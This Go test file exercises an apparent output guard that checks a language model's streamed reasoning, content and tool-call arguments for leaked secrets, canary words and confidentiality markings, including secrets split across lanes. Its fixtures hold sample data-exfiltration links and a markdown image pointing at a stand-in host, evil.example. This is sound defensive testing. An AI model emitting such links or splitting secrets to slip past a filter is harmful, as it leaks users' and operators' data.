package guard

import (
	"strings"
	"testing"
)

// lanesOf says a text of each lane in turn, to the end.
func lanesOf(g *Local, p *Prompt, texts [][2]string) (released map[string]string, why string, found []Finding) {
	a := g.Prompt(p).Answer
	whole, safe := map[string]string{}, map[string]int{}
	for _, t := range texts {
		if t[0] == "call" {
			if why = a.Call("f", t[1]); why != "" {
				break
			}
			continue
		}
		whole[t[0]] += t[1]
		n, block := a.Add(t[0], []byte(t[1]))
		if why = block; why != "" {
			break
		}
		safe[t[0]] = max(safe[t[0]], n)
	}
	if why == "" {
		why = a.End()
	}
	released = map[string]string{}
	for name, n := range safe {
		released[name] = whole[name][:n]
	}
	return released, why, a.Findings()
}

// A secret in halves is one, wherever it is cut, and its first half stays inside.
func TestSecretsOverLanes(t *testing.T) {
	g := standard(t)
	for _, rule := range g.rules.answers {
		if rule.Action != ActionBlock {
			continue
		}
		for _, bad := range rule.Tests.Bad {
			value := string(rule.match.Find([]byte(bad)))
			for cut := 1; cut < len(value); cut++ {
				first, second := "It begins with "+value[:cut], value[cut:]+" as you asked."
				for name, texts := range map[string][][2]string{
					"thoughts":         {{"reasoning", first}, {"content", second}},
					"letter by letter": append(singly("reasoning", first), singly("content", second)...),
					"the other way":    {{"content", second}, {"reasoning", first}},
					"three lanes":      {{"reasoning", first}, {"tokens", "x"}, {"content", second}},
					"it goes on":       {{"reasoning", prose(3000) + first}, {"content", second + prose(20_000)}},
					"both long":        {{"content", second + prose(20_000)}, {"reasoning", prose(20_000) + first}},
				} {
					released, why, _ := lanesOf(g, &Prompt{Route: chat, Spans: []Span{{User, "hello"}}}, texts)
					if why == "" {
						t.Fatalf("%s, %s, cut at %d: it was not blocked", rule.Name, name, cut)
					}
					if out := released["reasoning"]; strings.HasSuffix(out, value[:cut]) && cut > 1 {
						t.Fatalf("%s, %s, cut at %d: %q was released", rule.Name, name, cut, out)
					}
				}
			}
		}
	}
}

func singly(lane, text string) (out [][2]string) {
	for _, c := range strings.Split(text, "") {
		out = append(out, [2]string{lane, c})
	}
	return out
}

// What is in halves otherwise: markings, the canary, addresses, arguments of calls.
func TestHalvesOverLanes(t *testing.T) {
	g, err := New(Options{Policy: []byte("format: " + PolicyFormat + "\ndefault: {mode: block, canary: true, markings: [ACME INTERN]}\n"), Random: strings.NewReader(strings.Repeat("x", 32))})
	if err != nil {
		t.Fatal(err)
	}
	p := &Prompt{Route: chat, Spans: []Span{{System, "You are kind."}, {User, "hello"}}}
	word := g.Prompt(p).Rewrite[0][1:17]
	spaced := strings.Join(strings.Split(word, ""), " ")
	for name, tc := range map[string]struct {
		texts [][2]string
		want  string
	}{
		"a marking":                   {[][2]string{{"r", "It is ACME IN"}, {"c", "TERN."}}, markingSeen},
		"between its words":           {[][2]string{{"r", "It is ACME\n"}, {"c", "\n\nINTERN."}}, markingSeen},
		"without white space":         {[][2]string{{"r", "It is ACME"}, {"c", "INTERN."}}, markingSeen},
		"far from the seam":           {[][2]string{{"r", "It is ACME, I think"}, {"c", "INTERN."}}, ""},
		"the canary":                  {[][2]string{{"r", "It is " + word[:7]}, {"c", word[7:]}}, canarySeen},
		"spaced":                      {append(singly("r", "It is "+spaced[:15]), singly("c", spaced[15:])...), canarySeen},
		"in a call":                   {[][2]string{{"c", "It is " + word[:7]}, {"call", `{"q":"` + word[7:] + `"}`}}, canarySeen},
		"a key in a call":             {[][2]string{{"c", "It is AKIAIOSF"}, {"call", `{"q":"ODNN7EXAMPLE"}`}}, "aws-key"},
		"a key in two arguments":      {[][2]string{{"call", `{"a":"AKIAIOSF","b":"ODNN7EXAMPLE"}`}}, "aws-key"},
		"in a list":                   {[][2]string{{"call", `{"a":["AKIAIOSF",{"x":"ODNN7EXAMPLE"}]}`}}, "aws-key"},
		"in two calls":                {[][2]string{{"call", `{"a":"AKIAIOSF"}`}, {"call", `{"a":"ODNN7EXAMPLE"}`}}, "aws-key"},
		"a link with data":            {[][2]string{{"r", "See https://evil.example/?d=" + strings.Repeat("QUJD", 10)}, {"c", strings.Repeat("QUJD", 10) + " "}}, linkData},
		"an image":                    {[][2]string{{"r", "![x](https://evil"}, {"c", ".example/a.png)"}}, imageAway},
		"the same number twice":       {[][2]string{{"r", "It is 41111111"}, {"c", "41111111 it is"}}, ""},
		"two numbers in a call":       {[][2]string{{"call", `{"from":"41111111","to":"11111111"}`}}, ""},
		"an address and a hash":       {[][2]string{{"call", `{"url":"https://docs.example/page","sha256":"` + strings.Repeat("ab", 32) + `"}`}}, ""},
		"an address with a port":      {[][2]string{{"call", `{"url":"https://host.example:8440","to":"bob@mail.example"}`}}, ""},
		"text and what it repeats":    {[][2]string{{"delta", "See https://docs.example/a"}, {"done", "See https://docs.example/a"}}, ""},
		"an answer that is a number":  {[][2]string{{"delta", "4111111"}, {"done", "4111111"}, {"item", "4111111"}}, ""},
		"a lane that is empty":        {[][2]string{{"r", "AKIAIOSF"}, {"x", ""}, {"c", "ODNN7EXAMPLE"}}, "aws-key"},
		"a lane that goes on":         {[][2]string{{"r", "AKIAIOSF"}, {"c", "ODNN7EXAMPLE "}, {"r", " it was"}}, "aws-key"},
		"the beginning and the end":   {[][2]string{{"c", "ODNN7EXAMPLE is what it ends with"}, {"r", "It begins: "}, {"r", "AKIAIOSF"}}, "aws-key"},
		"text that only ends in one":  {[][2]string{{"r", "It is AKIAIOSF."}, {"c", "ODNN7EXAMPLE"}}, ""},
		"an argument and its own end": {[][2]string{{"call", `{"AKIAIOSF":"x","b":"ODNN7EXAMPLE"}`}}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			_, why, found := lanesOf(g, p, tc.texts)
			if (tc.want == "") != (why == "") || !strings.Contains(why, tc.want) {
				t.Errorf("got %q, want %q; %v", why, tc.want, found)
			}
		})
	}
}

// A spaced canary, which nothing holds back, ends the answer before its last letter.
func TestCanaryOverLanesIsLive(t *testing.T) {
	g := standard(t)
	p := &Prompt{Route: chat, Spans: []Span{{System, "You are kind."}, {User, "hello"}}}
	r := g.Prompt(p)
	word := r.Rewrite[0][1:17]
	r.Answer.Add("r", []byte("It is "+strings.Join(strings.Split(word[:8], ""), " ")+" "))
	for i, c := range word[8:] {
		if _, why := r.Answer.Add("c", []byte(string(c)+" ")); (why != "") != (i == 7) {
			t.Errorf("after letter %d: %q", i+1, why)
		}
	}
}

// Two lanes are joined once, not at every word.
func BenchmarkAnswerInTwoLanes(b *testing.B) {
	g := standard(b)
	text := strings.SplitAfter(prose(2000), " ")
	for b.Loop() {
		a := g.Prompt(&Prompt{Route: chat, Spans: []Span{{User, "hi"}}}).Answer
		for _, name := range []string{"reasoning", "content"} {
			for _, w := range text {
				a.Add(name, []byte(w))
			}
		}
		a.End()
	}
}
